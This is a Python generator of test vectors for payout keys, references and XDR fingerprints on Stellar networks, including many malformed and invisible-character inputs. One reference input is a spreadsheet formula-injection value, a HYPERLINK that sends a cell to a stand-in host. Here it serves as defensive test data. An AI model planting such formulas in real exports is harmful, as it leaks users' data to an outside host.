#!/usr/bin/env python3
"""Writes vectors.json: what every implementation of keys, references and fingerprints must compute.

Nothing here comes from an implementation under test: layouts.py writes every byte out with struct and base64, and
digests are hashlib's. docs/keys.md is the definition that both follow.

    python3 testdata/generate_vectors.py            writes testdata/vectors.json
    python3 testdata/generate_vectors.py --check    fails if the file is not what would be written
"""

import json
import struct
import sys
import unicodedata
import uuid
from pathlib import Path

sys.dont_write_bytecode = True  # nothing beside the files of the repository

from layouts import account, contract, message, payload, sha256, strkey, version_of
from layouts import xdr_address, xdr_bytes, xdr_i128, xdr_symbol, xdr_vector

OUT = Path(__file__).with_name("vectors.json")

PASSPHRASES = {
    "public": "Public Global Stellar Network ; September 2015",
    "testnet": "Test SDF Network ; September 2015",
    "standalone": "Standalone Network ; February 2017",
}
NETWORKS = {name: sha256(text.encode()) for name, text in PASSPHRASES.items()}
CONTRACT_1 = contract(sha256(b"contract 1"))
CONTRACT_2 = contract(sha256(b"contract 2"))


def place(network: str, at: str) -> dict:
    return {"network_id": NETWORKS[network].hex(), "contract": at}


def digested(inputs: dict, hashed: bytes, name: str, result) -> dict:
    return inputs | {"message": hashed.hex(), name: result(sha256(hashed).hex())}


def run_key(network: str, at: str, program: str, run: str, slot: int) -> dict:
    hashed = message(b"run/1", NETWORKS[network], payload(at), run.encode(), struct.pack(">I", slot))
    inputs = place(network, at) | {"program_id": program, "run": run, "slot": slot}
    return digested(inputs, hashed, "key", lambda digest: f"{program}-run-{digest}")


def gateway_key(network: str, at: str, program: str, caller_key: str, counter: int) -> dict:
    parts = (program.encode(), caller_key.encode(), struct.pack(">I", counter))
    hashed = message(b"gw/1", NETWORKS[network], payload(at), *parts)
    inputs = place(network, at) | {"program_id": program, "caller_key": caller_key, "counter": counter}
    return digested(inputs, hashed, "key", lambda digest: f"{program}-gw-{digest}")


def reference(network: str, at: str, run: str, row_id: str) -> dict:
    hashed = message(b"ref/1", NETWORKS[network], payload(at), run.encode(), row_id.encode())
    inputs = place(network, at) | {"run": run, "id": row_id}
    return digested(inputs, hashed, "reference", lambda digest: digest[:32])


def fingerprint(name: str, recipients: list, amounts: list, references: list | None = None) -> dict:
    parts = [
        xdr_symbol(b"payout"),
        xdr_vector([xdr_address(recipient) for recipient in recipients]),
        xdr_vector([xdr_i128(amount) for amount in amounts]),
    ]
    if references is not None:
        parts.append(xdr_vector([xdr_bytes(bytes.fromhex(reference)) for reference in references]))
    return {
        "name": name,
        "recipients": recipients,
        "amounts": [str(amount) for amount in amounts],
        "references": references,
        "fingerprint": sha256(xdr_vector(parts)).hex(),
    }


A1 = "GAZJYCGITLBAV5UPJUQ4QIHNFIILZ2763CO55DITR4O2KS77DBYM6MPE"
A2 = "GADXTBSNVIMB5TFN764TG436NCFFG26Y4P625IL7UD3NRBLTTDQE77PC"
A3 = "GA7QE4QIV5H4IYCCRKBTUJ27FM3VV4UOHDN2VWVWDDIVGOBMYLWE5HCU"
C1 = "CB2LTNYYHF7NPL7MEW6BBMDTJT7PAW2EVHCRADUCT2FNU36X5JYVSW7Z"
C2 = "CCNS2TFVVRSMIAKJO24MC7HFWCZLMEVOM4XJMHADN5UCOVQAL2UAYPEW"
FIRST = "b760d169a017b72f2fa221ef98e5be1d"
SECOND = "f2b268e6583932b074114fd3310c0363"
SIXTY = [account(sha256(f"recipient {number}".encode())) for number in range(60)]

FINGERPRINTS = {
    "about": [
        'Fingerprints of payouts: SHA-256 over the XDR of the ScVal vector [Symbol("payout"), Vec<Address> recipients, '
        "Vec<i128> amounts], with Vec<BytesN<16>> references as a fourth element where references are not null. All "
        "integers are big-endian.",
        "Vector: 00000010 00000001, number of elements, elements. Symbol: 0000000f 00000006 7061796f7574 0000. "
        "Address: 00000012, then 00000000 00000000 and the 32 bytes of an account's key, or 00000001 and the 32 "
        "bytes of a contract's id. i128: 0000000a and 16 bytes, two's complement. BytesN<16>: 0000000d 00000010 and 16 "
        "bytes.",
        "'presented only' are arguments that no payout can have: a replay presents them, and the conflict event shows "
        "their fingerprint.",
    ],
    "vectors": [
        fingerprint("one account, one unit", [A1], [1]),
        fingerprint("one contract, seven decimals", [C1], [50000000]),
        fingerprint("accounts and contracts in their given order", [A1, C1, A2, C2], [100, 200, 300, 400]),
        fingerprint("the same in another order", [C1, A1, A2, C2], [200, 100, 300, 400]),
        fingerprint("low half of the amount looks negative", [A1, A2], [2**63, 2**64 - 1]),
        fingerprint("above 64 bits, above 2^53, and the largest", [A1, A2, A3], [2**64, 2**53 + 1, 2**127 - 1]),
        fingerprint("presented only: zero and below", [A1, A2, C1], [0, -1, -(2**127)]),
        fingerprint("presented only: nothing", [], []),
        fingerprint("presented only: more amounts than recipients", [A1], [1, 2]),
        fingerprint("one account with a reference", [A1], [1], ["54635357dc528a06868899e95641abee"]),
        fingerprint("references of zeros and ones", [A1, A2], [1, 1], ["00" * 16, "ff" * 16]),
        fingerprint("equal wallets and amounts, other obligations", [A1, C1], [50000000, 70000000], [FIRST, SECOND]),
        fingerprint("the same with the references swapped", [A1, C1], [50000000, 70000000], [SECOND, FIRST]),
        fingerprint("presented only: an empty list of references is not none", [], [], []),
        fingerprint("sixty recipients", SIXTY, list(range(1, 61))),
    ],
}


# Keys, made and read.

LONGEST = "p" * 64
TRICKY = [
    "hackathon-2024",
    "a",
    "-",
    "--",
    "...",
    "A.b_c-9",
    LONGEST,
    "a-single-GABC1234-0123456789abcdef",
    "a-batch-GABC1234-3r-0123456789abcdef",
    "single",
    "-single-",
    "batch-GABC1234-3r",
    "run",
    "a-run-",
    "x-gw-gw",
    "0123456789abcdef",
    "550e8400-e29b-41d4-a716-446655440000",
]
NONCES = ["a3f1c2d4e5b6a7f8", "0000000000000000", "ffffffffffffffff", "9b8c7d6e5f4a3b2c"]


def single(program: str, prefix: str, nonce: str) -> dict:
    form = {"form": "single", "program_id": program, "recipient_prefix": prefix, "nonce": nonce}
    return {"key": "-".join([program, "single", prefix, nonce])} | form


def batch(program: str, prefix: str, count: int, nonce: str) -> dict:
    form = {"form": "batch", "program_id": program, "recipient_prefix": prefix, "count": count, "nonce": nonce}
    return {"key": "-".join([program, "batch", prefix, f"{count}r", nonce])} | form


def tailed(kind: str, infix: str, program: str, digest: str) -> dict:
    return {"key": "-".join([program, infix, digest]), "form": kind, "program_id": program, "digest": digest}


def made(recipients: list, row: dict) -> dict:
    return {"recipients": recipients} | row


def random_keys() -> list:
    recipients = [A1, C1, A2]
    rows = []
    for number, program in enumerate(TRICKY):
        nonce = NONCES[number % len(NONCES)]
        rows.append(made([C1], single(program, C1[:8], nonce)))
        rows.append(made(recipients, batch(program, A1[:8], 3, nonce)))
    rows.append(made(SIXTY, batch("sixty", SIXTY[0][:8], 60, NONCES[0])))
    rows.append(made([A1], batch("one", A1[:8], 1, NONCES[0])))
    return rows


def uuids() -> list:
    randoms = [bytes(16), b"\xff" * 16, bytes(range(16)), sha256(b"uuid")[:16]]
    return [{"random": random.hex(), "key": str(uuid.UUID(bytes=random, version=4))} for random in randoms]


def read_keys() -> list:
    digest = sha256(b"digest").hex()
    rows = [
        single("hackathon-2024", "GABC1234", "a3f1c2d4e5b6a7f8"),
        batch("hackathon-2024", "GABC1234", 3, "9b8c7d6e5f4a3b2c"),
        batch(LONGEST, "CZZZZZZ7", 2**32 - 1, NONCES[2]),
    ]
    for program in TRICKY:
        rows.append(tailed("run", "run", program, digest))
        rows.append(tailed("gateway", "gw", program, digest))
    rows += [{"key": row["key"], "form": "uuid", "bytes": row["key"].replace("-", "")} for row in uuids()]
    others = [
        "k",
        "!",
        "~" * 256,
        "k" * 256,
        "a+b%2Fc=&#",
        "single-GABC1234-0123456789abcdef",  # no program
        "-single-GABC1234-0123456789abcdef",
        "-batch-GABC1234-3r-0123456789abcdef",
        f"-run-{digest}",
        f"run-{digest}",
        f"{'p' * 65}-run-{digest}",  # a program id is at most 64 bytes long
        f"{'p' * 65}-single-GABC1234-0123456789abcdef",
        "a/b-single-GABC1234-0123456789abcdef",  # no program has a slash
        "a-single-GABC1234-0123456789ABCDEF",  # hexadecimal digits are lower case
        "a-single-GABC1234-0123456789abcde",  # a digit too few
        "a-single-GABC1234-0123456789abcdef0",  # one too many
        "a-single-GABC1234-0123456789abcdeg",
        "a-single-GABC123-0123456789abcdef",
        "a-single-GABC12345-0123456789abcdef",
        "a-single-gabc1234-0123456789abcdef",
        "a-Single-GABC1234-0123456789abcdef",
        "a-single-0123456789abcdef",
        "a-single-GABC1234-3r-0123456789abcdef",  # single with a count
        "a-batch-GABC1234-0123456789abcdef",  # batch without one
        "a-batch-GABC1234-0r-0123456789abcdef",
        "a-batch-GABC1234-03r-0123456789abcdef",
        "a-batch-GABC1234-+3r-0123456789abcdef",
        "a-batch-GABC1234-r-0123456789abcdef",
        "a-batch-GABC1234-3R-0123456789abcdef",
        "a-batch-GABC1234-4294967296r-0123456789abcdef",
        f"a-run-{digest.upper()}",
        f"a-run-{digest[1:]}",
        f"a-gw-{digest}0",
        f"a-other-{digest}",
        f"a-single-{digest}",
        "a-run-0123456789abcdef",  # a nonce where a digest belongs
        "00000000-0000-1000-8000-000000000000",  # version 1
        "00000000-0000-4000-c000-000000000000",  # another variant
        "550E8400-E29B-41D4-A716-446655440000",  # upper case is another key
        "550e8400e29b41d4a716446655440000",  # no hyphens
        "550e-8400e29b-41d4-a716-446655440000",
        "{550e8400-e29b-41d4-a716-446655440000}",
    ]
    return rows + [{"key": key, "form": "other"} for key in others]


def run_keys() -> list:
    rows = [
        run_key("testnet", CONTRACT_1, "hackathon-2024", "prizes", 0),
        run_key("testnet", CONTRACT_1, "hackathon-2024", "prizes", 1),
        run_key("testnet", CONTRACT_1, "hackathon-2024", "prizes", 255),
        run_key("testnet", CONTRACT_1, "hackathon-2024", "prizes", 256),
        run_key("testnet", CONTRACT_1, "hackathon-2024", "prizes", 2**32 - 1),
        run_key("testnet", CONTRACT_1, "hackathon-2024", "prizes-2", 0),
        run_key("public", CONTRACT_1, "hackathon-2024", "prizes", 0),
        run_key("testnet", CONTRACT_2, "hackathon-2024", "prizes", 0),
        run_key("standalone", CONTRACT_2, LONGEST, "r" * 64, 7),
    ]
    return rows + [run_key("standalone", CONTRACT_1, program, "2026-05_week.1", 3) for program in TRICKY]


def gateway_keys() -> list:
    rows = [
        gateway_key("testnet", CONTRACT_1, "acme", "order-1", 0),
        gateway_key("testnet", CONTRACT_1, "acme", "order-1", 1),
        gateway_key("testnet", CONTRACT_1, "Acme", "order-1", 0),
        gateway_key("testnet", CONTRACT_1, "acme", "Order-1", 0),
        gateway_key("public", CONTRACT_1, "acme", "order-1", 0),
        gateway_key("testnet", CONTRACT_2, "acme", "order-1", 0),
        gateway_key("testnet", CONTRACT_1, "acme-", "order-1", 0),
        gateway_key("testnet", CONTRACT_1, "acme", "-order-1", 0),
        gateway_key("testnet", CONTRACT_1, "acme", "a+b%2Fc=&#", 2**32 - 1),
        gateway_key("testnet", CONTRACT_1, LONGEST, "~" * 256, 258),
    ]
    return rows + [gateway_key("standalone", CONTRACT_1, program, "x", 0) for program in TRICKY]


def references() -> list:
    return [
        reference("testnet", CONTRACT_1, "prizes", "r1"),
        reference("testnet", CONTRACT_1, "prizes", "R1"),
        reference("testnet", CONTRACT_1, "prizes", "r10"),
        reference("testnet", CONTRACT_1, "prize", "sr1"),
        reference("testnet", CONTRACT_1, "prizesr", "1"),
        reference("public", CONTRACT_1, "prizes", "r1"),
        reference("testnet", CONTRACT_2, "prizes", "r1"),
        reference("testnet", CONTRACT_1, "prizes", "\u00e91"),
        reference("testnet", CONTRACT_1, "prizes", "a  b c/d"),
        reference("testnet", CONTRACT_1, "prizes", "\u5c71\u7530\u3000\u592a\u90ce"),
        reference("testnet", CONTRACT_1, "prizes", '=HYPERLINK("http://x.example/?"&A1)'),
        reference("testnet", CONTRACT_1, "prizes", "\U0001f3c6 \ud55c\uae00 \u65e5\u672c"),
        reference("testnet", CONTRACT_1, "prizes", "i" * 256),
        reference("standalone", CONTRACT_2, "r" * 64, "\U0001f3c6" * 64),
    ]


def row_ids() -> list:
    def row(cell: str) -> dict:
        return {"cell": cell, "id": unicodedata.normalize("NFC", cell.strip("\t\n\x0c\r "))}

    return [
        row("r1"),
        row(" r1 "),
        row("\t\r\n\x0c r1 \x0c\r\n\t"),
        row("a b"),
        row("\u00e91"),
        row("e\u03011"),
        row("\u5c71\u7530\u3000\u592a\u90ce"),
        # Neighbours of what nobody sees.
        row("\u00ac\u00ae\u0350\u2010\u2027\u2030\u205e\u2070\u3001\u3165\ufe10\uff01\ufffd\U0001d172\U0001d17b"),
        row("\u212b"),
        row("\u1112\u1161\u11ab"),
        row("q\u0307\u0323"),
        row("\uff11\uff10"),
        row("\ufb01"),
        row("\u0958"),
        row("i" * 254 + "e\u0301"),
    ]


# From each kind of character that nobody sees: control characters, white space that is no plain blank, and
# both ends of every range that Unicode calls Default_Ignorable_Code_Point, for which Python has no table.
UNSEEN = "\0\x07\x1b\x7f\x85\x9f\u00a0\u1680\u2000\u200a\u2028\u2029\u202f\u205f\u2800"
UNSEEN += "\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b\u180f\u200b\u200f\u202a\u202e\u2060\u206f\u3164"
UNSEEN += "\ufe00\ufe0f\ufeff\uffa0\ufff0\ufffb\U0001bca0\U0001bca3\U0001d173\U0001d17a\U000e0000\U000e0fff"


def run_names() -> list:
    names = ["prizes", "Prizes", "PRIZES-2026", "0", "2026-05_week.1", "a-", "a..", "r" * 64]
    return [{"given": name, "run": name.lower()} for name in names]


def invalid() -> dict:
    def rows(reason: str, *values: str) -> list:
        return [{"value": value, "reason": reason} for value in values]

    muxed = strkey(version_of("M"), payload(A1) + struct.pack(">Q", 7))
    seed = strkey(version_of("S"), sha256(b"no account has this seed"))
    kinds = [strkey(version_of("T"), sha256(b"transaction")), strkey(version_of("X"), sha256(b"hash"))]
    kinds += [strkey(version_of("L"), sha256(b"pool")), strkey(version_of("B"), b"\0" + sha256(b"balance"))]
    wrong_checksum = A1[:-1] + ("A" if A1[-1] != "A" else "B")
    not_addresses = ["", "G", "winner*example.org", A1.lower(), f" {A1}", f"{A1}\n", f"\u00a0{A1}", A1[:-1], A1 + "A"]
    not_addresses += [wrong_checksum, A1[:20] + "\u200b" + A1[20:], "C" + A1[1:], A1 + "======", "9" * 56]
    return {
        "program_ids": rows("length", "", "p" * 65)
        + rows("character", "a b", "a/b", "a:b", "\u00e9", "a\n", "a\0", "a+b", "a,b", "\uff41"),
        "keys": rows("length", "", "k" * 257)
        + rows("character", " ", "a b", " a", "a ", "a\t", "a\n", "a\0", "\x1f", "\x7f", "\u00e9", "\u2013", "\u00a0a"),
        "run_names": rows("length", "", "r" * 65)
        + rows("character", "a b", " a", "a/b", "a\\b", "a\n", "\u00e9", "\u0130", "\u212a", "a\u2013b")
        + rows("start", "-a", ".", "..", ".a", "_a", "--run"),
        "row_ids": rows("length", "", "i" * 257, "\u00e9" * 129)
        + rows("blank", " ", " a", "a ", "\ta", "a\n", "a\r", "\x0ca")
        + rows("unseen", *(before + unseen + after for unseen in UNSEEN for before, after in [("r", "1"), ("r1", "")]))
        + rows("unseen", "\u3000r1", "r1\u3000")
        + rows("not_normalised", "e\u0301", "\u212b", "\u1112\u1161\u11ab", "q\u0307\u0323", "\u0958"),
        "recipients": rows("muxed", muxed, "MAZJYCGITLBAV5UPJUQ4QIHNFIILZ2763CO55DITR4O2KS77DBYM6AAAAAAAAAAAA6MCY")
        + rows("secret", seed, seed[:-1], f" {seed}", seed[:-1] + ("A" if seed[-1] != "A" else "B"))
        + rows("kind", *kinds)
        + rows("invalid", *not_addresses),
        "contracts": rows("invalid", "", A1, muxed, C1.lower(), C1[:-1], f"{C1} "),
        "recipient_prefixes": rows("invalid", "", "GABC123", "GABC12345", "gabc1234", "GABC-234", "GABC123\u00e9"),
        "references": rows("invalid", "", "0" * 31, "0" * 33, "A" * 32, "g" * 32, "\u00e9" * 16),
        "fingerprints": rows("invalid", "", "0" * 63, "0" * 65, "A" * 64, "0x" + "0" * 62),
    }


VECTORS = {
    "about": [
        "What every implementation computes. Defined in docs/keys.md; written by generate_vectors.py, which uses none "
        "of the implementations. Not edited by hand.",
        "message: the bytes whose SHA-256 follows, in hexadecimal. Amounts are decimal strings, counts and slots "
        "numbers.",
    ],
    "networks": [{"passphrase": PASSPHRASES[name], "network_id": NETWORKS[name].hex()} for name in PASSPHRASES],
    "random_keys": random_keys(),
    "uuids": uuids(),
    "read_keys": read_keys(),
    "run_names": run_names(),
    "run_keys": run_keys(),
    "gateway_keys": gateway_keys(),
    "row_ids": row_ids(),
    "references": references(),
    "fingerprints": FINGERPRINTS,
    "invalid": invalid(),
}


def main() -> None:
    text = json.dumps(VECTORS, indent=2) + "\n"
    if sys.argv[1:] == ["--check"]:
        if not OUT.exists() or OUT.read_text(encoding="ascii") != text:
            sys.exit(f"{OUT.name} is not what {Path(__file__).name} writes; run it without --check and read the diff")
    elif sys.argv[1:]:
        sys.exit(__doc__)
    else:
        OUT.write_text(text, encoding="ascii", newline="\n")


if __name__ == "__main__":
    main()
